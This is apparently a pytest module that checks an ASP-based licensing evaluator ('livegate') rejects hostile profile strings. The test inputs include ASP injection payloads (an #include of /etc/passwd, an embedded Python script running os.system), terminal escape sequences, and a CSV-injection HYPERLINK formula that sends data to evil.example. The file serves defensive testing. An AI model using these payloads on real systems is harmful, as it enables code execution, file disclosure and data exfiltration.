"""Hostile strings in a profile never reach the ASP program: each is rejected
with a ProfileError naming its field, and the next valid evaluation answers
exactly as before (no rule, fact or grounding changed)."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from livegate import Knowledge, ProfileError

ROOT = Path(__file__).resolve().parent.parent

HOSTILE = {
    "double_quote": 'business_license"',
    "single_quote": "business_license'",
    "close_and_new_fact": "x). holds(financial_licence",
    "period_terminator": "business_license).",
    "include_passwd": '#include "/etc/passwd".',
    "script_python": "#script (python)\nimport os\nos.system('touch /tmp/pwned')\n#end.",
    "const_directive": "#const x=1.",
    "show_directive": "#show status/2.",
    "newline": "business_license\nholds(financial_licence).",
    "trailing_newline": "business_license\n",
    "nul_byte": "business_license\x00",
    "variable": "X",
    "function_term": "f(business_license)",
    "tuple_term": "(business_license,1)",
    "very_long": "a" * 100_000,
    "long_valid_prefix": "business_license" * 10,
    "unicode_name": "营业执照",
    "unicode_lookalike": "busіness_license",  # Cyrillic і
    "emoji": "🎥",
    "rtl_override": "\u202ebusiness_license",
    "whitespace": " business_license ",
    "empty": "",
}


def _placements(h: str) -> list[tuple[str, dict, str]]:
    """(name, profile, field the error must name) for every id field of a profile."""
    subject = {"type": "enterprise"}
    return [
        ("subject.type", {"subject": {"type": h}}, "subject.type"),
        ("subject.roles", {"subject": {"type": "enterprise", "roles": ["car_dealer", h]}}, "subject.roles[1]"),
        ("documents", {"subject": subject, "documents": ["business_license", h]}, "documents[1]"),
        ("counts", {"subject": subject, "counts": {h: 1}}, f"counts.{h}"),
        ("activities", {"subject": subject, "activities": [h]}, "activities[0]"),
        ("goal.scenario", {"subject": subject, "goal": {"scenario": h}}, "goal.scenario"),
        ("goal.categories", {"subject": subject, "goal": {"categories": ["finance_bank", h]}}, "goal.categories[1]"),
        ("goal.access", {"subject": subject, "goal": {"access": h}}, "goal.access"),
        ("costs", {"subject": subject, "costs": {h: 3}}, f"costs.{h}"),
    ]


CASES = [
    pytest.param(profile, field, id=f"{kind}-{where}")
    for kind, h in HOSTILE.items()
    for where, profile, field in _placements(h)
]

VALID = {
    "subject": {"type": "enterprise", "roles": ["car_dealer"]},
    "documents": ["business_license"],
    "counts": {"training_coop_agreement": 1},
    "activities": ["stock_trading"],
    "goal": {"scenario": "auto"},
    "costs": {"manufacturer_sales_authorisation": 2},
}


@pytest.fixture(scope="module")
def baseline(engine) -> dict:
    return engine.evaluate(VALID)


def _fields(exc: ProfileError) -> list[str]:
    return [e["field"] for e in exc.errors]


@pytest.mark.parametrize("profile, field", CASES)
def test_hostile_string_is_rejected_naming_its_field_and_changes_nothing(engine, baseline, profile, field):
    with pytest.raises(ProfileError) as raised:
        engine.evaluate(profile)
    assert field in _fields(raised.value)
    assert all(e["problem"] for e in raised.value.errors)
    assert engine.evaluate(VALID) == baseline


def test_the_baseline_profile_is_answered_as_the_source_says(baseline):
    """A car dealer holding the business licence lacks the authorisation (overridden to 2) and the permit (10)."""
    assert baseline["cheapest"]["cost"] == 12
    assert [(p["categories"], p["missing"]) for p in baseline["cheapest"]["plans"]] == [
        (["auto_presale"], ["manufacturer_sales_authorisation", "vehicle_manufacturer_access_permit"])
    ]


@pytest.mark.parametrize("key", ['#include "/etc/passwd".', "subject).", "__class__", "goal\nholds(x)."])
def test_hostile_top_level_field_is_rejected_as_an_unknown_field(engine, baseline, key):
    with pytest.raises(ProfileError) as raised:
        engine.evaluate(dict(VALID, **{key: ["business_license"]}))
    assert key in _fields(raised.value)  # (the error's words name it by its escape)
    assert engine.evaluate(VALID) == baseline


ESCAPES = "\u001b]0;PWNED\u0007\u001b[2J\u001b[31mfake: all good\u001b[0m\u2028\u202e"
"""A key that sets a terminal's title, clears its screen, prints in red, breaks a line and reverses
the rest (a security review): as the profile's key, printed raw by the command line's error."""


@pytest.mark.parametrize("command", ["evaluate", "batch"])
def test_a_key_s_control_characters_reach_no_terminal(tmp_path, command):
    source = tmp_path / "in.json"
    source.write_text(json.dumps({"subject": {"type": "enterprise"}, ESCAPES: 1}) + "\n", encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "livegate", command, str(source), *(["--workers", "1"] if command == "batch" else [])],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert proc.returncode in (1, 2), proc.stderr
    assert not [c for c in proc.stderr if c in "\x1b\x07\u2028\u202e"], proc.stderr
    assert "\\u001b]0;PWNED\\u0007\\u001b[2J" in proc.stderr and "unknown field" in proc.stderr
    assert not [c for c in proc.stdout if c in "\x1b\x07"]  # batch's JSON lines: JSON escapes them


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_batch_csv_s_error_cell_is_never_a_spreadsheet_formula(tmp_path, start):
    """The error cell starts with the field as the line wrote it: ``{"=HYPERLINK(…)": 1}`` was a formula
    a spreadsheet ran on opening the CSV (OWASP's CSV injection)."""
    key = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    source, out = tmp_path / "in.jsonl", tmp_path / "out.csv"
    lines = [{"subject": {"type": "enterprise"}}, {"subject": {"type": "enterprise"}, key: 1}]
    source.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "livegate", "batch", str(source), "--format", "csv", "-o", str(out), "--workers", "1"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr
    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
    assert rows[1][1] == ""  # the good line: no error
    cell = rows[2][1]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and "HYPERLINK" in cell and "unknown field" in cell
    # a printable start is kept behind an apostrophe; a tab or a carriage return is named by its escape
    assert cell.startswith("'" + start if start.isprintable() else f"\\u{ord(start):04x}")


@pytest.mark.parametrize(
    "profile, field",
    [
        pytest.param({"subject": {"type": ["enterprise"]}}, "subject.type", id="list_as_type"),
        pytest.param({"subject": {"type": 1}}, "subject.type", id="number_as_type"),
        pytest.param({"subject": "enterprise"}, "subject", id="string_as_subject"),
        pytest.param(
            {"subject": {"type": "enterprise"}, "documents": [{"id": "business_license"}]},
            "documents[0]",
            id="object_as_document",
        ),
        pytest.param(
            {"subject": {"type": "enterprise"}, "counts": {"training_coop_agreement": True}},
            "counts.training_coop_agreement",
            id="boolean_as_count",
        ),
        pytest.param(
            {"subject": {"type": "enterprise"}, "counts": {"training_coop_agreement": 10**100}},
            "counts.training_coop_agreement",
            id="huge_count",
        ),
        pytest.param(
            {"subject": {"type": "enterprise"}, "counts": {"training_coop_agreement": -1}},
            "counts.training_coop_agreement",
            id="negative_count",
        ),
        pytest.param(
            {"subject": {"type": "enterprise"}, "costs": {"business_license": 1.5}},
            "costs.business_license",
            id="fractional_cost",
        ),
        pytest.param(
            {"subject": {"type": "enterprise"}, "costs": {"business_license": "0); #show."}},
            "costs.business_license",
            id="program_text_as_cost",
        ),
        pytest.param(
            {"subject": {"type": "enterprise"}, "documents": ["business_license"] * 10_000},
            "documents",
            id="very_long_list",
        ),
    ],
)
def test_wrong_types_and_sizes_are_rejected_naming_the_field(engine, baseline, profile, field):
    with pytest.raises(ProfileError) as raised:
        engine.evaluate(profile)
    assert field in _fields(raised.value)
    assert engine.evaluate(VALID) == baseline


@pytest.fixture(scope="module")
def valid_ids(catalogue) -> set[str]:
    return (
        set(catalogue.subject_types)
        | set(catalogue.roles)
        | set(catalogue.items)
        | set(catalogue.activities)
        | set(catalogue.scenarios)
        | set(catalogue.categories)
        | set(catalogue.access_methods)
    )


@settings(max_examples=200, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.text(min_size=0, max_size=120), where=st.integers(min_value=0, max_value=8))
def test_any_text_that_is_not_an_id_is_rejected_naming_its_field(engine, baseline, valid_ids, text, where):
    if text in valid_ids:
        return
    _, profile, field = _placements(text)[where]
    with pytest.raises(ProfileError) as raised:
        engine.evaluate(profile)
    assert field in _fields(raised.value)


def test_no_rule_changed_after_the_hostile_profiles(engine, baseline):
    """Run last in this module: the knowledge on disk and the engine's answers are what they were."""
    assert Knowledge.load().digest == engine.ruleset["digest"]
    assert engine.evaluate(VALID) == baseline
    assert not Path("/tmp/pwned").exists()


def test_hostile_profile_on_the_command_line_is_rejected_without_reading_the_included_file():
    profile = {"subject": {"type": "enterprise"}, "documents": ['#include "/etc/passwd".']}
    proc = subprocess.run(
        [sys.executable, "-m", "livegate", "evaluate", "-"],
        input=json.dumps(profile),
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=60,
    )
    assert proc.returncode == 2
    assert "documents[0]" in proc.stderr and "unknown item id" in proc.stderr
    assert "root:" not in proc.stdout + proc.stderr and "Traceback" not in proc.stderr
